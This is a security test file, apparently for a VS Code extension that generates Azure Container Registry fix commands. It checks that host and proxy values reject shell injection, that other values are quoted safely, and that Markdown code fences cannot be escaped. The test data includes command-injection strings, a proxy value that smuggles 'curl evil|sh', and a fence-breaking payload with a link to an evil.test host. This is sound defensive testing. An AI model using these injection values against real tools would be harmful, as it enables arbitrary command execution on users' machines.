// Copy-only and runnable fix commands are filled with values from the network (a redirect's host,
// a proxy setting, ARM names): host and address values must match strict patterns (else the fix is
// left out), every other value is quoted for the shell where it stands, and the Markdown export's
// code fence cannot be closed by the command inside it.
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { resolveFixes, baseParams } from '../../../src/core/engine/fixes';
import { fillCommand, fixValueValid, FIX_VALUE_RULES } from '../../../src/core/engine/fix-values';
import { getCause } from '../../../src/core/catalogue/index';
import { parseRegistryInput } from '../../../src/core/registry/target';
import { fenceFor, reportToMarkdown } from '../../../src/vscode/report/export/markdown';
import { ReportModel } from '../../../src/vscode/report/report-model';
import { REPORT_STRING_KEYS, type ReportStrings } from '../../../src/shared/report-protocol';
import { finding, report, viewContext } from '../vscode/report/fixtures';

const target = parseRegistryInput('contoso');
const HOSTILE_HOSTS = ['x.test;id', 'x.test$(id)', 'x.test`id`', 'x.test{a,b}', 'x.test|sh', 'x.test&&id', "x.test'", 'x.test\nid', 'a b.test', '-oProxyCommand=id', ''];

/** What bash makes of `cmd` (printf '%s\n' … prints each word on its own line). */
function bash(cmd: string): string {
  const r = spawnSync('bash', ['--norc', '--noprofile', '-c', cmd], { encoding: 'utf8', env: { PATH: process.env.PATH, HOME: '/nonexistent' } });
  assert.equal(r.status, 0, `${cmd}\n${r.stderr}`);
  return r.stdout;
}

describe('security: fix commands (engine/fix-values, fixes, Markdown export)', () => {
  it('a data endpoint that is not a host name leaves its fixes out; a host name fills them unquoted', () => {
    const c = getCause('network.data-endpoint-blocked')!;
    const withEndpoint = (v: string) => resolveFixes(c, { ...baseParams(target), dataEndpoint: v }).map((f) => f.command ?? '');
    const good = withEndpoint('contoso.westeurope.data.azurecr.io');
    assert.ok(good.some((x) => x.includes('https://contoso.westeurope.data.azurecr.io/')), good.join(' | '));
    for (const bad of HOSTILE_HOSTS) {
      const cmds = withEndpoint(bad);
      assert.ok(!cmds.some((x) => x.includes('data.azurecr') || (bad && x.includes(bad))), `${JSON.stringify(bad)}: ${cmds.join(' | ')}`);
      assert.ok(cmds.length < good.length, 'the fixes that needed it are left out');
    }
  });

  it('every host and address parameter has a strict pattern that refuses shell syntax', () => {
    for (const key of ['loginServer', 'suggestedLoginServer', 'dataEndpoint', 'clientIp', 'privateIp', 'resolvedIp', 'firewallIp', 'blockedFqdns', 'sourcePrefix', 'destinationPrefix', 'proxy', 'noProxy']) {
      assert.ok(FIX_VALUE_RULES[key], `${key} has a pattern`);
      // (a space separates the items of a list)
      for (const bad of HOSTILE_HOSTS.filter((b) => b !== 'a b.test' || !['blockedFqdns', 'sourcePrefix', 'destinationPrefix'].includes(key))) {
        assert.equal(fixValueValid(key, bad), false, `${key} = ${JSON.stringify(bad)}`);
      }
    }
    for (const [key, v] of [['clientIp', '192.0.2.1'], ['clientIp', '2001:db8::1'], ['sourcePrefix', '10.0.0.0/24 10.1.0.4'], ['destinationPrefix', 'AzureContainerRegistry'],
      ['blockedFqdns', 'contoso.azurecr.io contoso.westeurope.data.azurecr.io'], ['proxy', 'http://***@proxy.corp:3128'], ['proxy', 'http://[2001:db8::1]:8080'], ['noProxy', 'localhost,127.0.0.1,.corp,10.0.0.0/8,*.internal:8443']] as const) {
      assert.ok(fixValueValid(key, v), `${key} = ${v}`);
    }
    for (const [key, v] of [['clientIp', '192.0.2.300'], ['sourcePrefix', '10.0.0.0/33'], ['proxy', 'http://proxy:99999'], ['proxy', 'ftp://proxy:21'], ['noProxy', 'a,,b']] as const) {
      assert.equal(fixValueValid(key, v), false, `${key} = ${v}`);
    }
  });

  it('any other value reaches the shell as exactly itself: outside quotes, inside single and inside double quotes', function () {
    this.timeout(60_000);
    const value = fc.string({ unit: fc.constantFrom(...'ab $`\'"\\;&|(){}<>*?~#!\n\t-=%'.split('')), maxLength: 24 }).filter((s) => s !== '');
    fc.assert(fc.property(value, (v) => {
      assert.equal(bash(fillCommand("printf '%s|' {v}", { v })!), `${v}|`);
      assert.equal(bash(fillCommand("printf '%s|' 'a{v}b'", { v })!), `a${v}b|`);
      assert.equal(bash(fillCommand('printf \'%s|\' "a{v}b"', { v })!), `a${v}b|`);
    }), { numRuns: 25 });
    // A plain safe token is left as it is.
    assert.equal(fillCommand('az acr login --name {registry}', { registry: 'contoso' }), 'az acr login --name contoso');
    assert.equal(fillCommand('cat {f}', { f: 'C:\\Users\\Jo Doe\\.docker\\config.json' }), "cat 'C:\\Users\\Jo Doe\\.docker\\config.json'");
  });

  it('a list parameter stays several words, each checked', () => {
    const cmd = fillCommand('az x --source-addresses {sourcePrefix} --target-fqdns {blockedFqdns}', { sourcePrefix: '10.0.0.0/24 10.0.1.0/24', blockedFqdns: 'contoso.azurecr.io *.data.azurecr.io' });
    assert.equal(cmd, "az x --source-addresses 10.0.0.0/24 10.0.1.0/24 --target-fqdns contoso.azurecr.io '*.data.azurecr.io'");
  });

  it('the systemd drop-in fix keeps its printf text intact with a proxy and NO_PROXY, and drops a hostile proxy', () => {
    const c = getCause('network.daemon-proxy-missing')!;
    const ok = resolveFixes(c, { ...baseParams(target), proxy: 'http://***@proxy.corp:3128', noProxy: 'localhost,.corp' }).find((f) => f.command?.includes('systemd'));
    assert.ok(ok?.command?.includes('Environment="HTTPS_PROXY=http://***@proxy.corp:3128" "NO_PROXY=localhost,.corp"'), ok?.command);
    const bad = resolveFixes(c, { ...baseParams(target), proxy: "http://p:1'; curl evil|sh; '", noProxy: 'localhost' });
    assert.ok(!bad.some((f) => f.command?.includes('systemd')), 'left out');
  });

  it('the Markdown export fences a command with a fence longer than any backtick run in it', () => {
    assert.equal(fenceFor('docker login x'), '```');
    assert.equal(fenceFor('a ```` b ` c'), '`````');
    const strings = Object.fromEntries(REPORT_STRING_KEYS.map((k) => [k, `<${k}>`])) as ReportStrings;
    const m = new ReportModel('contoso.azurecr.io', viewContext('en'), true, 'sp');
    m.apply({ type: 'start', target: report([], []).target, checks: [{ id: 'net.challenge', area: 'network', title: 'Challenge' }] }, 1000);
    const command = 'echo x\n```\n# Injected heading\n[click](https://evil.test)\n````';
    m.apply({ type: 'finding', finding: finding({ checkId: 'net.challenge', status: 'fail', causeId: 'network.ip-rule-excludes-client',
      fixes: [{ kind: 'copyCommand', title: { en: 'Fix', nl: 'Fix' }, command }] }) }, 1100);
    const md = reportToMarkdown(m.state, strings, (t) => t);
    const lines = md.split('\n');
    const open = lines.indexOf('`````sh');
    assert.ok(open >= 0, md);
    assert.equal(lines.slice(open + 1, open + 6).join('\n'), command, 'the command is inside the fence, whole');
    assert.equal(lines[open + 6], '`````', 'and only the fence closes it');
  });
});
